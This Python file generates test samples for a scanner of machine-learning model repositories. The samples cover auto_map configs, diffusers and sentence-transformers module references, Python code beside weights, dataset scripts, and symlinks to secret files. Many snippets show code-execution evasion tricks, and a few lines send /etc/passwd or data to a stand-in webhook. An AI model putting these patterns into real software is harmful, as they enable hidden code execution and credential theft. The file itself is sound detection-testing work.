"""Repositories as hubs hold them: configurations that name code, and code that lies beside."""

import json
from collections.abc import Iterator

from tests.checks.models.building import Entry, zipped
from tests.corpus.sample import Link, Sample


def dumped(value: object) -> bytes:
    return json.dumps(value, indent=2).encode()


WEIGHTS = (2).to_bytes(8, "little") + b"{}"
PLAIN = b"import torch\n\n\nclass Net(torch.nn.Module):\n    def forward(self, x):\n        return x\n"
CODE = b"import os\n\nos.system('true')\n" + PLAIN

AUTO = {
    "own code": {"AutoModel": "modeling_net.Net"},
    "another repository": {"AutoModel": "acme/evil--modeling_net.Net"},
    "a tokenizer": {"AutoTokenizer": ["tok.Slow", None]},
    "a list": {"AutoTokenizer": ["acme/evil--tok.Slow", "tok.Fast"]},
    "a processor": {"AutoProcessor": "proc.P"},
    "an image processor": {"AutoImageProcessor": "acme/evil--proc.P"},
    "a feature extractor": {"AutoFeatureExtractor": "proc.P"},
    "a config": {"AutoConfig": "configuration.C"},
    "nested folders": {"AutoModel": "a.b.c.Net"},
}
FILES = ("config.json", "tokenizer_config.json", "preprocessor_config.json", "processor_config.json", "generation_config.json", "video_preprocessor_config.json", "feature_extractor/preprocessor_config.json", "text_encoder/config.json", "adapter_config.json")  # fmt: skip


def samples() -> Iterator[Sample]:
    family = "repositories: auto_map"
    for name, mapping in AUTO.items():
        for file in FILES:
            files = {
                file: dumped({"model_type": "net", "auto_map": mapping}),
                "model.safetensors": WEIGHTS,
                "modeling_net.py": PLAIN,
            }
            # Code of the same repository is read itself, below; code of another one is not there to read.
            expect = "high" if "acme/evil" in str(mapping) else "medium"
            yield Sample(
                family, f"{name}, {file}", "from_pretrained(trust_remote_code=True) imports it", files, expect
            )
            if name == "own code":
                evil = {**files, "modeling_net.py": CODE}
                yield Sample(family, f"{name} with an effect, {file}", "from_pretrained imports it", evil)
    deep = {
        "model_type": "llava",
        "text_config": {"model_type": "net", "auto_map": AUTO["another repository"]},
    }
    spelled = {
        "in an inner config": dumped(deep),
        "escaped key": dumped({"auto_map": AUTO["own code"]}).replace(b"auto_map", b"auto\\u005fmap"),
        "key twice": b'{"auto_map": {}, "auto_map": ' + dumped(AUTO["own code"]) + b"}",
        "byte order mark": b"\xef\xbb\xbf" + dumped({"auto_map": AUTO["own code"]}),
        "in a list": dumped({"stages": [{"auto_map": AUTO["own code"]}]}),
        "behind a megabyte": dumped(
            {"id2label": {str(n): "x" * 50 for n in range(20_000)}, "auto_map": AUTO["own code"]}
        ),
        "custom_pipelines": dumped(
            {"model_type": "net", "custom_pipelines": {"evil": {"impl": "evil.Pipe", "pt": ["AutoModel"]}}}
        ),
        "trust_remote_code": dumped({"model_type": "net", "trust_remote_code": True}),
        "trust_remote_code, deep": dumped({"model_type": "net", "a": {"b": {"trust_remote_code": True}}}),
        "trust_remote_code, text": dumped({"model_type": "net", "trust_remote_code": "true"}),
        "trust_remote_code, one": dumped({"model_type": "net", "trust_remote_code": 1}),
        "custom tokenizer class": dumped(
            {"tokenizer_class": "evil", "auto_map": {"AutoTokenizer": ["evil.T", None]}}
        ),
    }
    for name, data in spelled.items():
        expect = "high" if "trust" in name or "inner" in name else "medium"
        yield Sample(
            family,
            name,
            "from_pretrained reads the key",
            {"config.json": data, "model.safetensors": WEIGHTS},
            expect,
        )
        if expect == "medium":
            files = {
                "config.json": data,
                "model.safetensors": WEIGHTS,
                "modeling_net.py": CODE,
                "evil.py": CODE,
            }
            yield Sample(family, f"{name}, with an effect", "from_pretrained imports it", files)
    yield Sample(
        family,
        "in a zip",
        "unpacked and loaded",
        {"m.zip": zipped(Entry("m/config.json", dumped({"auto_map": AUTO["own code"]})))},
        "medium",
    )
    yield from _pipelines()
    yield from _code()
    yield from _links()


def _pipelines() -> Iterator[Sample]:
    family = "repositories: pipelines and modules"
    parts = {
        "a class of a module": ["pipeline_net", "Net"],
        "a class of os": ["os", "system"],
        "a class of subprocess": ["subprocess", "Popen"],
        "a class of builtins": ["builtins", "eval"],
        "a class of an unknown package": ["acme_evil", "Net"],
    }
    for name, part in parts.items():
        index = {
            "_class_name": "StableDiffusionPipeline",
            "_diffusers_version": "0.30.0",
            "unet": part,
            "vae": ["diffusers", "AutoencoderKL"],
        }
        yield Sample(
            family,
            f"model_index, {name}",
            "diffusers imports the module",
            {"model_index.json": dumped(index), "unet/pipeline_net.py": CODE},
            "medium" if "unknown" in name else "high",
        )
    yield Sample(
        family,
        "model_index, own pipeline",
        "diffusers imports the pipeline",
        {
            "model_index.json": dumped({"_class_name": ["pipeline", "Evil"], "_diffusers_version": "0.30.0"}),
            "pipeline.py": CODE,
        },
    )
    yield Sample(
        family,
        "custom_pipeline",
        "diffusers fetches the pipeline",
        {"model_index.json": dumped({"_class_name": "DiffusionPipeline", "custom_pipeline": "acme/evil"})},
    )
    yield Sample(
        family,
        "pipeline beside",
        "custom_pipeline='.' runs pipeline.py",
        {
            "model_index.json": dumped({"_class_name": "DiffusionPipeline"}),
            "pipeline.py": CODE,
            "unet/model.safetensors": WEIGHTS,
        },
    )
    for kind in (
        "custom_net.Net",
        "os.system",
        "acme_evil.models.Net",
        "builtins.exec",
        "subprocess.Popen",
        "runpy.run_path",
    ):
        modules = [
            {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
            {"idx": 1, "name": "1", "path": "1", "type": kind},
        ]
        yield Sample(
            family,
            f"modules.json, {kind}",
            "sentence-transformers imports the type",
            {"modules.json": dumped(modules), "model.safetensors": WEIGHTS, "custom_net.py": PLAIN},
            "medium" if "et" in kind and kind[0] in "ca" else "high",
        )
    peft = {
        "peft_type": "LORA",
        "base_model_name_or_path": "a",
        "auto_mapping": {"base_model_class": "Net", "parent_library": "acme_evil.modeling"},
    }
    yield Sample(
        family,
        "PEFT auto_mapping",
        "PEFT imports the parent library",
        {"adapter_config.json": dumped(peft)},
        "medium",
    )
    yield Sample(
        family,
        "PEFT auto_mapping of os",
        "PEFT imports the parent library",
        {
            "adapter_config.json": dumped(
                {**peft, "auto_mapping": {"base_model_class": "system", "parent_library": "os"}}
            )
        },
        "medium",
    )
    for value in (
        "__import__('os').system('true')",
        "exec('pass')",
        "lambda: open('a')",
        "[x for x in ().__class__.__base__.__subclasses__()]",
    ):
        config = {"model_type": "x", "num_layers": value}
        yield Sample(
            family,
            f"number that is code: {value[:12]}",
            "a conversion script evaluates it",
            {"convert_config.json": dumped(config), "config.json": dumped(config)},
        )
    for target in ("os.system", "subprocess.Popen", "builtins.exec"):
        for key in ("_target_", "class_path", "target"):
            config = {"model": {key: target, "params": {"a": "true"}, "init_args": {"args": ["true"]}}}
            weak = key == "target"
            yield Sample(
                family,
                f"{key} {target}",
                "instantiated by a launcher",
                {"config.json": dumped(config), "model.safetensors": WEIGHTS},
                "medium" if weak else "high",
            )


SCRIPTS = {
    "os.system": "import os\nos.system('true')\n",
    "subprocess": "import subprocess\nsubprocess.run(['true'])\n",
    "from import": "from os import system as run\nrun('true')\n",
    "from subprocess": "from subprocess import check_output as c\nc('true', shell=True)\n",
    "exec": "exec(\"import os; os.system('true')\")\n",
    "exec of base64": "import base64\nexec(base64.b64decode('cGFzcw=='))\n",
    "eval": "x = eval(\"__import__('os').system('true')\")\n",
    "compile": "exec(compile(\"import os; os.system('true')\", 'a', 'exec'))\n",
    "import by name": "__import__('os').system('true')\n",
    "importlib": "import importlib\nimportlib.import_module('os').system('true')\n",
    "getattr": "import os\ngetattr(os, 'sys' + 'tem')('true')\n",
    "getattr on builtins": "import builtins\ngetattr(builtins, 'ex' + 'ec')('import os')\n",
    "globals": "globals()['__builtins__']['exec']('import os')\n",
    "socket": "import socket\ns = socket.socket()\ns.connect(('127.0.0.1', 1))\n",
    "requests": "import requests\nrequests.post('http://127.0.0.1/', data=open('/etc/passwd').read())\n",
    "urllib": "import urllib.request\nurllib.request.urlopen('http://127.0.0.1/')\n",
    "pickle": "import pickle\npickle.load(open('a.bin', 'rb'))\n",
    "ctypes": "import ctypes\nctypes.CDLL('./a.so')\n",
    "pip": "import os, sys\nos.system(f'{sys.executable} -m pip install evil')\n",
    "pip main": "from pip._internal import main\nmain(['install', 'evil'])\n",
    "in a class body": "import os\nclass Net:\n    x = os.system('true')\n",
    "in a default": "import os\ndef f(x=os.system('true')):\n    pass\n",
    "in a decorator": "import os\n@(lambda f: os.system('true'))\ndef f():\n    pass\n",
    "in an annotation": "import os\ndef f(x: os.system('true')):\n    pass\n",
    "in a base": "import os\nclass A(os.system('true') or object):\n    pass\n",
    "in a comprehension": "import os\n[os.system(x) for x in ['true']]\n",
    "in a lambda that is called": "import os\n(lambda: os.system('true'))()\n",
    "in a function that is called": "import os\ndef go():\n    os.system('true')\ngo()\n",
    "in a function that calls on": "import os\ndef a():\n    os.system('true')\ndef b():\n    a()\nb()\n",
    "in a class that is made": "import os\nclass A:\n    def __init__(self):\n        os.system('true')\nA()\n",
    "in a metaclass": "import os\nclass M(type):\n    def __new__(cls, *a):\n        os.system('true')\n        return super().__new__(cls, *a)\nclass A(metaclass=M):\n    pass\n",
    "in __init_subclass__": "import os\nclass A:\n    def __init_subclass__(cls):\n        os.system('true')\nclass B(A):\n    pass\n",
    "in __set_name__": "import os\nclass D:\n    def __set_name__(self, o, n):\n        os.system('true')\nclass B:\n    d = D()\n",
    "in a try": "try:\n    import os\n    os.system('true')\nexcept Exception:\n    pass\n",
    "in an if": "import os\nif True:\n    os.system('true')\n",
    "in a with": "import os\nwith os.popen('true') as f:\n    f.read()\n",
    "in an f-string": "import os\nx = f\"{os.system('true')}\"\n",
    "in an assert": "import os\nassert os.system('true') == 0\n",
    "in a match": "import os\nmatch 1:\n    case _:\n        os.system('true')\n",
    "in a thread": "import threading, os\nthreading.Thread(target=os.system, args=('true',)).start()\n",
    "at exit": "import atexit, os\natexit.register(os.system, 'true')\n",
    "by a map": "import os\nlist(map(os.system, ['true']))\n",
    "by a partial": "import os, functools\nfunctools.partial(os.system, 'true')()\n",
    "by an alias": "import os as o\nr = o.system\nr('true')\n",
    "by a star import": "from os import *\nsystem('true')\n",
    "by a dictionary": "import os\nd = {'a': os.system}\nd['a']('true')\n",
    "by a tuple": "import os\n(a, b) = (os.system, 1)\na('true')\n",
    "by sys.modules": "import sys, os\nsys.modules['os'].system('true')\n",
    "by __builtins__": "__builtins__.__dict__['exec']('import os')\n",
    "by a subclass walk": "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](['true'])\n",
    "by operator": "import operator, os\noperator.methodcaller('system', 'true')(os)\n",
    "by runpy": "import runpy\nrunpy.run_path('a.py')\n",
    "by a walrus": "import os\n(f := os.system)('true')\n",
    "writes a file": "open('/etc/cron.d/a', 'w').write('x')\n",
    "writes by pathlib": "import pathlib\npathlib.Path('/tmp/a').write_text('x')\n",
    "removes": "import shutil\nshutil.rmtree('/tmp/a')\n",
    "environment": "import os\nos.environ['LD_PRELOAD'] = '/tmp/a.so'\n",
    "multiprocessing": "import multiprocessing, os\nmultiprocessing.Process(target=os.system, args=('true',)).start()\n",
    "asyncio": "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('true'))\n",
    "pty": "import pty\npty.spawn('/bin/true')\n",
    "code object": "import marshal, types\ntypes.FunctionType(marshal.loads(b'x'), {})()\n",
    "unicode names": "import \uff4fs\n\uff4fs.system('true')\n",
    "cookie": "# -*- coding: latin-1 -*-\nimport os\nos.system('true')\n",
    "semicolons": "import os;os.system('true');\n",
    "continued": "import os\nos\\\n.system\\\n('true')\n",
    "form feed": "\x0cimport os\n\x0cos.system('true')\n",
    "webhook": "import urllib.request as u\nu.Request\nu.urlopen(u.Request('https://discord.example/api/webhooks/1', data=b'x'))\n",
    "signal": "import signal, os\nsignal.signal(signal.SIGALRM, lambda *a: os.system('true'))\n",
    "sitecustomize": "import site\nsite.addsitedir('/tmp')\n",
    "property call": "import os\nclass A:\n    @property\n    def x(self):\n        return os.system('true')\nA().x\n",
    "setattr": "import os, builtins\nsetattr(builtins, 'print', os.system)\nprint('true')\n",
    "exec in a loop": "for c in ['import os']:\n    exec(c)\n",
    "zlib": "import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJwrSCwuBgAEXgGz')))\n",
    "generator": "import os\nnext(os.system(x) for x in ['true'])\n",
    "while": "import os\nwhile os.system('true'):\n    pass\n",
}  # fmt: skip
WEAK = {"webhook": "high", "signal": "medium", "torch.load": "medium", "pickle": "medium", "environment": "medium", "by a dictionary": "medium", "by a tuple": "medium", "setattr": "medium", "torch.hub": "medium", "property call": "medium", "sitecustomize": "medium", "by operator": "medium", "in __set_name__": "medium", "writes a file": "high", "removes": "high", "code object": "high"}  # fmt: skip


def _code() -> Iterator[Sample]:
    family = "repositories: Python beside weights"
    for index, (name, code) in enumerate(SCRIPTS.items()):
        expect = WEAK.get(name, "high")
        module = (code + PLAIN.decode()).encode("latin-1" if name == "cookie" else "utf-8")
        places = {
            "modeling": {"modeling_net.py": module, "model.safetensors": WEIGHTS},
            "a folder": {
                "net/modeling.py": module,
                "net/config.json": dumped({"model_type": "net", "auto_map": {"AutoModel": "modeling.Net"}}),
                "net/model.safetensors": WEIGHTS,
            },
            "__init__": {"m/__init__.py": module, "m/weights.bin": bytes(64), "m/model.safetensors": WEIGHTS},
            "handler": {"handler.py": module, "model.safetensors": WEIGHTS},
            "zip": {"m.zip": zipped(Entry("m/handler.py", module), Entry("m/model.safetensors", WEIGHTS))},
        }
        keys = list(places)
        for key in keys if index < 3 else [keys[0], keys[1 + index % 4]]:
            # A package is imported by name only; the other places are what hubs' loaders import.
            asked = "medium" if key == "__init__" else expect
            yield Sample(
                family,
                f"{name}, {key}",
                "runs when the code beside the model is imported",
                places[key],
                asked,
            )
    family = "repositories: data set scripts"
    script = b"import datasets\n\n\nclass Net(datasets.GeneratorBasedBuilder):\n    def _info(self):\n        return datasets.DatasetInfo()\n\n    def _split_generators(self, dl):\n        import os\n        os.system('true')\n        return []\n\n    def _generate_examples(self):\n        yield 0, {}\n"
    for name, files in {
        "builder": {"net/net.py": script, "net/README.md": b"---\ntags: []\n---\n"},
        "builder by name": {
            "d/d.py": script.replace(b"datasets.GeneratorBasedBuilder", b"GeneratorBasedBuilder").replace(
                b"import datasets\n", b"import datasets\nfrom datasets import GeneratorBasedBuilder\n"
            ),
            "d/data/train.csv": b"a\n",
        },
        "arrow builder": {"d/d.py": script.replace(b"GeneratorBasedBuilder", b"ArrowBasedBuilder")},
        "builder with an effect": {"d/d.py": b"import os\nos.system('true')\n" + script},
    }.items():
        yield Sample(family, name, "load_dataset(trust_remote_code=True) runs it", files)


def _links() -> Iterator[Sample]:
    family = "repositories: links and pointers"
    for to in (
        "/etc/passwd",
        "../../../secret.bin",
        "/proc/self/environ",
        "../../other/model.safetensors",
        "/home/user/.ssh/id_rsa",
    ):
        for name in ("model.safetensors", "weights/model.bin", "config.json"):
            yield Sample(
                family, f"{name} to {to}", "opened by the loader", {name: Link(to), "readme.md": b"a"}
            )
    for size in (12, 5_000_000_000):
        pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'a' * 64}\nsize {size}\n".encode()
        for name in ("model.safetensors", "model.bin", "weights.h5", "a.pkl", "model.gguf", "model.onnx"):
            yield Sample(
                family,
                f"pointer {name} of {size}",
                "nothing was there to check",
                {name: pointer},
                "not-checked",
            )
